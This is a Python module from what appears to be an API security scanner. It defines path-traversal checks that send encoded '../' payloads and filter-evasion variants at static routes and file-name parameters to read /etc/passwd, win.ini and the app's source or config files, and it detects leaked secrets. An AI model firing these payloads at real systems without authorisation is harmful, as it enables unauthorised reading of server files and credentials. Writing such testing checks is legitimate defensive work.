"""Path traversal through the static route and through file-name parameters.

Proof is by content only: a line of /etc/passwd (``root:x:0:0:``), the Windows
``win.ini``, or the application's own Python source. No payload contains its own
proof, so a page that echoes the payload never matches. Every hit is re-checked
with a control probe of the same shape naming a file that cannot exist: if the
proof shows up there too, the page always says it and nothing is reported.
Only GET requests; nothing is written.

File-name parameters are taken from the shared injection points
(``checks/common/injection.py``): query and path parameters and the target's own cookies,
at most ``MAX_SLOTS`` (3) of them, 2 batches of at most 2 values each plus a control.
"""

from __future__ import annotations

import asyncio
import posixpath
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from apigrade import rx
from apigrade.checks.common.injection import InjectionPoint, from_slot, points
from apigrade.checks.common.slots import Slot, is_numeric, token
from apigrade.checks.context import CheckContext, Hit
from apigrade.checks.registry import active
from apigrade.engine.http import Exchange
from apigrade.model import Confidence, Severity
from apigrade.redact import mask

Fetch = Callable[[str], Awaitable[Exchange | None]]

#: ``..`` steps: enough to reach / from any realistic static or upload directory.
DEPTH = 8
STATIC_PREFIX = "/static"
MAX_EXTRA_PREFIXES = 1
MAX_SLOTS = 3

_PASSWD = rx.compile(r"(?m)(root:[x*]?:0:0:[^\r\n<]{0,80})")
_WIN_INI = rx.compile(
    r"(?im)(^\s*; for 16-bit app support\s*$)|(^\s*\[fonts\]\s*$[\s\S]{0,400}^\s*\[extensions\]\s*$)"
)
_FLASK_IMPORT = rx.compile(
    r"(?m)^((?:from\s+flask\b[\w.]*\s+import\s+\w|import\s+flask\b)[^\r\n]{0,100})"
)
_PY_STRUCTURE = rx.compile(r"(?m)^(?:def |class |@\w|async def |if __name__|[A-Za-z_]\w*\s*=\s*\w)")
_SECRET_ASSIGN = rx.compile(
    r"(?m)^[ \t]*((?:SECRET_KEY|[A-Z0-9_]*(?:PASSWORD|SECRET|TOKEN|API_KEY|DATABASE_URI|DATABASE_URL)"
    r"[A-Z0-9_]*|DEBUG)[ \t]*=[ \t]*)(['\"]?)([^\r\n'\"]*)"
)  # and no "==" (a comparison): _single_equals
_ASSET = rx.compile(r"\.(?:css|js|mjs|png|jpe?g|gif|svg|ico|webp|woff2?|ttf|map|pdf|txt)$", rx.I)


# -- proofs -----------------------------------------------------------------------
def passwd_proof(text: str) -> str | None:
    m = _PASSWD.search(text)
    return f"/etc/passwd read: {m.group(1).strip()}" if m else None


def win_ini_proof(text: str) -> str | None:
    m = _WIN_INI.search(text)
    return "win.ini read: " + " ".join(m.group(0).split())[:120] if m else None


def source_proof(text: str) -> str | None:
    """The app's Python source: a Flask import line plus Python structure, not HTML."""
    if text.lstrip().startswith("<"):
        return None
    m = _FLASK_IMPORT.search(text)
    if m is None or not _PY_STRUCTURE.search(text):
        return None
    return f"Python source read: {m.group(1).strip()}"


def _single_equals(m: rx.Match) -> bool:
    """The assignment's "=" is not the start of "=="."""
    after = m.start(1) + m.group(1).index("=") + 1
    return m.string[after : after + 1] != "="


def config_proof(text: str) -> str | None:
    """A Python settings module: a secret or debug assignment at line start, not HTML."""
    if text.lstrip().startswith("<"):
        return None
    m = _SECRET_ASSIGN.search(text, accept=_single_equals)
    if m is None:
        return None
    return f"Python config read: {m.group(1)}{m.group(2)}{mask(m.group(3).strip())}"


Proof = Callable[[str], str | None]


@dataclass(frozen=True)
class Attempt:
    """One traversal payload, its proof, and a same-shape control naming a missing file.

    ``direct`` is the normalised path of the same file: when it serves the proof too, the
    file is simply exposed (the files.* checks say so), not reached by traversal.
    """

    target: str
    control: str
    proof: Proof
    direct: str | None = None


# -- payload shapes -----------------------------------------------------------------
def _climb(style: str, ups: int, rel: str) -> str:
    """``ups`` parent steps then ``rel``, written in one of the traversal encodings."""
    if style == "plain":
        return "../" * ups + rel
    if style == "slash":  # ..%2f: slashes hidden from proxies that normalise "/../"
        return "..%2f" * ups + rel.replace("/", "%2f")
    if style == "dots":  # %2e%2e/: dots hidden from filters that look for ".."
        return "%2e%2e/" * ups + rel
    if style == "double":  # ..%252f: for code that unquotes a second time
        return "..%252f" * ups + rel.replace("/", "%252f")
    if style == "nested":  # ..././ survives a single replace("../", "")
        return "..././" * ups + rel
    if style == "nested-query":  # ....// survives replace("../", "") in a query value
        return "....//" * ups + rel
    if style == "backslash":  # ..\ for Windows hosts
        return "..%5c" * ups + rel.replace("/", "%5c")
    raise ValueError(style)


def _attempt(
    prefix: str, style: str, ups: int, rel: str, proof: Proof, *, on_site: bool = False
) -> Attempt:
    """A payload under ``prefix`` and its control (same shape, random file name).

    ``on_site``: the payload is a URL path, so its normalised form names a site path.
    """
    directory, name = posixpath.split(rel)
    _, ext = posixpath.splitext(name)
    missing = posixpath.join(directory, "apigrade" + token() + ext)
    target = prefix + _climb(style, ups, rel)
    direct = posixpath.normpath(target) if on_site and style == "plain" else None
    return Attempt(target, prefix + _climb(style, ups, missing), proof, direct)


def static_batches(prefix: str, full: bool) -> list[list[Attempt]]:
    """Probes for one static prefix: the likeliest first, the variants only if needed."""
    p = prefix.rstrip("/") + "/"

    def at(style: str, ups: int, rel: str, proof: Proof) -> Attempt:
        return _attempt(p, style, ups, rel, proof, on_site=True)

    passwd = at("plain", DEPTH, "etc/passwd", passwd_proof)
    if not full:
        return [[passwd], [at("slash", DEPTH, "etc/passwd", passwd_proof)]]
    first = [passwd, at("plain", 1, "app.py", source_proof)]
    second = [
        at("slash", DEPTH, "etc/passwd", passwd_proof),
        at("dots", DEPTH, "etc/passwd", passwd_proof),
        at("double", DEPTH, "etc/passwd", passwd_proof),
        at("nested", DEPTH, "etc/passwd", passwd_proof),
        at("backslash", DEPTH, "windows/win.ini", win_ini_proof),
        at("plain", 1, "wsgi.py", source_proof),
        at("plain", 1, "config.py", config_proof),
    ]
    return [first, second]


def param_batches(location: str) -> list[list[Attempt]]:
    """Values for a file-name parameter (query values plain, path segments encoded)."""
    if location == "path":
        return [
            [_attempt("", "slash", DEPTH, "etc/passwd", passwd_proof)],
            [_attempt("", "slash", 1, "app.py", source_proof)],
        ]
    return [
        [
            _attempt("", "plain", DEPTH, "etc/passwd", passwd_proof),
            _attempt("/", "plain", 0, "etc/passwd", passwd_proof),
        ],
        [
            _attempt("", "nested-query", DEPTH, "etc/passwd", passwd_proof),
            _attempt("", "plain", 1, "app.py", source_proof),
        ],
    ]


async def first_proof(
    batches: list[list[Attempt]], fetch: Fetch
) -> tuple[Attempt, Exchange, str] | None:
    """Send batch by batch; the first proof whose control stays clean wins."""
    for batch in batches:
        results = await asyncio.gather(*(fetch(a.target) for a in batch))
        for attempt, ex in zip(batch, results, strict=True):
            evidence = attempt.proof(ex.text) if ex is not None else None
            if ex is None or evidence is None:
                continue
            if await _is_traversal(attempt, fetch):
                return attempt, ex, evidence
    return None


async def _is_traversal(attempt: Attempt, fetch: Fetch) -> bool:
    """The control lacks the proof, and so does the file's normalised path."""
    control = await fetch(attempt.control)
    if control is None or attempt.proof(control.text) is not None:
        return False
    if attempt.direct is None or attempt.direct == attempt.target:
        return True
    direct = await fetch(attempt.direct)
    return direct is None or attempt.proof(direct.text) is None


# -- where to probe -------------------------------------------------------------------
def static_prefixes(ctx: CheckContext) -> list[str]:
    """``/static`` plus the most common other asset directory seen while crawling."""
    seen: Counter[str] = Counter()
    urls = [ep.url for ep in ctx.endpoints]
    urls += [ex.url for ex in ctx.exchanges if ex.status == 200 and ex.probe.raw_target is None]
    for url in urls:
        if not ctx.target.in_scope(url):
            continue
        path = urlsplit(url).path
        parts = path.split("/")
        if len(parts) >= 3 and _ASSET.search(path) and ".." not in parts and "%" not in path:
            seen["/" + parts[1]] += 1
    extra = [p for p, _ in seen.most_common() if p != STATIC_PREFIX]
    return [STATIC_PREFIX] + extra[:MAX_EXTRA_PREFIXES]


_STRONG = frozenset({
    "file", "filename", "file_name", "filepath", "file_path", "path", "download", "doc",
    "document", "include", "template", "tpl", "img", "image", "attachment", "fname", "pdf",
})  # fmt: skip
_WEAK = frozenset({
    "name", "page", "view", "load", "read", "f", "fn", "src", "dir", "folder", "resource",
    "report", "log", "style", "theme", "layout", "lang", "locale", "content", "show",
})  # fmt: skip


_EXTENSION = rx.compile(r"\.[A-Za-z0-9]{1,5}$")


def file_score(slot: Slot, param_type: str | None) -> int:
    """How much a parameter looks like it names a file (0: not at all)."""
    if is_numeric(param_type, slot.example):
        return 0
    name = slot.name.lower()
    score = 3 if name in _STRONG else 2 if ("file" in name or "path" in name) else 0
    score = score or (1 if name in _WEAK else 0)
    example = slot.example or ""
    if _EXTENSION.search(example) or "/" in example:
        score += 2
    return score


def file_slots(ctx: CheckContext) -> list[InjectionPoint]:
    """The few injection points most likely to name a file: query and path parameters, and
    the target's cookies (``template=``, ``lang=``)."""
    scored = []
    static = tuple(p.rstrip("/") + "/" for p in static_prefixes(ctx))
    for slot in points(ctx, ("query", "path", "cookie")):
        if slot.location == "path" and urlsplit(slot.endpoint.url).path.startswith(static):
            continue  # a static route's file name: traversal.static-route tests it
        param = next((p for p in slot.endpoint.params if p.name == slot.name), None)
        score = file_score(slot, param.type if param else None)
        if score > 0:
            scored.append((score, slot))
    scored.sort(key=lambda item: -item[0])
    return [slot for _, slot in scored[:MAX_SLOTS]]


# -- the checks -----------------------------------------------------------------------
_COMMON: dict[str, Any] = dict(
    category="input-validation",
    owasp="API8:2023",
    cwe=22,
    severity=Severity.HIGH,
    confidence=Confidence.CERTAIN,
)


@active(
    id="traversal.static-route",
    title="Path traversal through the static file route",
    **_COMMON,
)
async def static_route(ctx: CheckContext) -> None:
    """Raw, non-normalised traversal targets under each static prefix."""

    async def fetch(path: str) -> Exchange | None:
        return await ctx.get(path, raw=True, follow_redirects=False)

    for i, prefix in enumerate(static_prefixes(ctx)):
        found = await first_proof(static_batches(prefix, full=i == 0), fetch)
        if found is not None:
            _attempt_used, ex, evidence = found
            ctx.report(Hit(url=ex.url, evidence=f"GET {ex.probe.display_url} -> HTTP "
                           f"{ex.status}; {evidence}"))  # fmt: skip


@active(
    id="traversal.parameter",
    title="Path traversal through a file-name parameter",
    **_COMMON,
)
async def file_parameter(ctx: CheckContext) -> None:
    """Traversal values in the discovered parameters most likely to name files."""
    for slot in file_slots(ctx):
        encoded = slot.location == "path"

        async def fetch(value: str, _slot: Slot = slot, _enc: bool = encoded) -> Exchange | None:
            probe = _slot.probe(value, encoded=_enc)
            if probe is None:
                return None
            return await ctx.send(probe)

        found = await first_proof(param_batches(slot.location), fetch)
        if found is not None:
            attempt, ex, evidence = found
            ctx.report(
                Hit(
                    url=ex.url,
                    parameter=from_slot(slot).parameter,
                    evidence=f"{slot.name}={attempt.target} -> HTTP {ex.status}; {evidence}",
                )
            )
